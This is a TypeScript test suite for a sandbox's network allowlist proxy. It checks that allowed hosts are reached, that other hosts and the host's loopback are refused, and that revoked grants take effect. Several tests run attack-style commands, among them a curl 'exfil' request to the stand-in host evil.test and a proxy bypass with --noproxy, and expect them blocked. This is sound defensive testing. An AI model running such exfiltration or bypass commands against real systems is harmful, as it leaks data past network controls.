import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { createNativeSandbox, type NetworkRequestEvent } from '../../../src-main/node/sandbox/native/nativeSandbox';
import { NativeSandboxPolicyError } from '../../../src-main/node/sandbox/native/nativeSandboxErrors';
import { runSandboxed, shPolicy, startSandboxed } from './runSandboxed';

// The "internet" here is a server on 127.0.0.2 that the test's resolver gives as the address of *.test names and
// that the sandbox is told to trust; the host's real loopback services listen on 127.0.0.1 and stay refused.
const INTERNET = '127.0.0.2';

async function listen(host: string, body: string): Promise<{ server: Server; port: number; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.headers.host}${req.url}`);
    res.end(`${body} ${req.headers.host}${req.url}`);
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return { server, port: (server.address() as AddressInfo).port, hits };
}

describe('native sandbox: network only through the allowlist proxy', () => {
  const workspace = realpathSync(mkdtempSync(join(tmpdir(), 'omni-native-net-')));
  const events: NetworkRequestEvent[] = [];
  const sandbox = createNativeSandbox({
    resolveHost: async (host) => (host.endsWith('.test') ? [INTERNET] : ['127.0.0.1']),
    trustedAddresses: new Set([INTERNET]),
    onNetworkRequest: (event) => events.push(event),
  });
  let internet: Awaited<ReturnType<typeof listen>>;
  let hostService: Awaited<ReturnType<typeof listen>>;
  before(async () => {
    internet = await listen(INTERNET, 'INTERNET');
    hostService = await listen('127.0.0.1', 'HOST-LOOPBACK-SERVICE');
  });
  after(() => {
    internet.server.close();
    hostService.server.close();
    rmSync(workspace, { recursive: true, force: true });
  });

  it('an allowlisted name is reached (plain HTTP and a CONNECT tunnel); the run sees proxy variables', async () => {
    events.length = 0;
    const result = await runSandboxed(
      sandbox,
      shPolicy(workspace, `echo "proxy=$HTTPS_PROXY"; curl -sS -m 10 http://api.allowed.test:${internet.port}/plain; echo; curl -sS -m 10 -p http://api.allowed.test:${internet.port}/tunnel`, {
        network: { allowDomains: ['*.allowed.test'] },
        label: 'run-1',
      }),
    );
    assert.equal(result.code, 0, result.output);
    assert.match(result.output, /proxy=http:\/\/127\.0\.0\.1:3128/);
    assert.match(result.output, /INTERNET api\.allowed\.test:\d+\/plain/);
    assert.match(result.output, /INTERNET api\.allowed\.test:\d+\/tunnel/);
    assert.deepEqual(
      events.map((e) => [e.label, e.host, e.method, e.allowed]),
      [
        ['run-1', 'api.allowed.test', 'GET', true],
        ['run-1', 'api.allowed.test', 'CONNECT', true],
      ],
    );
  });

  it('a name outside the allowlist is refused, said so, and ledgered', async () => {
    events.length = 0;
    const before = internet.hits.length;
    const result = await runSandboxed(
      sandbox,
      shPolicy(workspace, `curl -sS -m 10 http://evil.test:${internet.port}/exfil; echo; curl -sS -m 10 -p http://evil.test:${internet.port}/tunnel; echo "rc=$?"`, {
        network: { allowDomains: ['*.allowed.test'] },
      }),
    );
    assert.match(result.output, /evil\.test is not in the network grant's allowlist/);
    assert.match(result.output, /rc=56/, 'curl: the proxy refused the tunnel');
    assert.equal(internet.hits.length, before, 'nothing reached the server');
    assert.deepEqual(
      events.map((e) => [e.host, e.method, e.allowed]),
      [
        ['evil.test', 'GET', false],
        ['evil.test', 'CONNECT', false],
      ],
    );
  });

  it("the host's loopback is refused through the proxy too, even when its name is allowlisted", async () => {
    events.length = 0;
    const result = await runSandboxed(
      sandbox,
      shPolicy(workspace, `curl -sS -m 10 http://localhost:${hostService.port}/; echo; curl -sS -m 10 http://127.0.0.1:${hostService.port}/; echo; curl -sS -m 10 --noproxy '*' http://127.0.0.1:${hostService.port}/; echo "direct rc=$?"`, {
        network: { allowDomains: ['localhost', '127.0.0.1'] },
      }),
    );
    assert.doesNotMatch(result.output, /HOST-LOOPBACK-SERVICE/);
    assert.match(result.output, /localhost resolves to 127\.0\.0\.1 \(loopback\)/);
    assert.match(result.output, /direct rc=7/);
    assert.equal(hostService.hits.length, 0);
    assert.ok(events.every((e) => !e.allowed));
  });

  it('a grant revoked mid-run stops the next request', async () => {
    let granted = true;
    execFileSync('mkfifo', [join(workspace, 'fifo')]);
    const run = await startSandboxed(
      sandbox,
      shPolicy(workspace, `curl -sS -m 10 http://a.allowed.test:${internet.port}/first; echo; read line < fifo; curl -sS -m 10 http://a.allowed.test:${internet.port}/second`, {
        network: { allowDomains: ['a.allowed.test'], stillGranted: () => granted },
      }),
    );
    try {
      await waitForOutput(run.output, /first/);
      granted = false;
      // Release the run: it waits on a fifo in the workspace, so the revoke lands between its two requests.
      writeFileSync(join(workspace, 'fifo'), 'go\n');
      const result = await run.done;
      assert.match(result.output, /INTERNET a\.allowed\.test:\d+\/first/);
      assert.match(result.output, /the network grant was revoked/);
      assert.doesNotMatch(result.output, /\/second/);
    } finally {
      run.dispose();
    }
  });

  it('the bridge into the sandbox ends with the run, also when the run is killed', async () => {
    const bridges = (socket: string) =>
      readdirSync('/proc').filter((pid) => {
        try {
          return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(socket);
        } catch {
          return false;
        }
      });
    for (const killed of [false, true]) {
      const run = await startSandboxed(sandbox, shPolicy(workspace, killed ? 'echo up; sleep 600' : 'echo up', { network: { allowDomains: ['a.allowed.test'] } }));
      try {
        const socket = run.launch.argv.find((arg) => arg.endsWith('proxy.sock'))!;
        await waitForOutput(run.output, /up/);
        if (killed) run.kill();
        await run.done;
        const deadline = Date.now() + 5000;
        while (bridges(socket).length > 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
        assert.deepEqual(bridges(socket), [], `no socat left (${killed ? 'killed' : 'finished'} run)`);
      } finally {
        run.dispose();
      }
    }
  });

  it('without a network grant there is no proxy and nothing is reachable', async () => {
    const result = await runSandboxed(sandbox, shPolicy(workspace, `echo "proxy=[$HTTP_PROXY]"; curl -sS -m 5 http://api.allowed.test:${internet.port}/; echo "rc=$?"; curl -sS -m 5 http://${INTERNET}:${internet.port}/; echo "rc=$?"`, { env: { HTTP_PROXY: 'http://10.0.0.1:8080' } }));
    assert.match(result.output, /proxy=\[\]/, 'a proxy variable from the caller is not passed on');
    assert.match(result.output, /rc=6\n/, 'names do not resolve');
    assert.match(result.output, /rc=7\n$/, 'addresses do not connect');
  });

  it('a malformed allowlist pattern is a typed error naming the field', async () => {
    await assert.rejects(
      sandbox.prepareLaunch(shPolicy(workspace, 'true', { network: { allowDomains: ['https://example.com/path'] } })),
      (error: unknown) => error instanceof NativeSandboxPolicyError && error.field === 'network.allowDomains' && /not a domain pattern/.test(error.message),
    );
  });
});

async function waitForOutput(output: () => string, pattern: RegExp): Promise<void> {
  const deadline = Date.now() + 15_000;
  while (!pattern.test(output())) {
    if (Date.now() > deadline) throw new Error(`no ${pattern} in the run's output: ${output()}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}
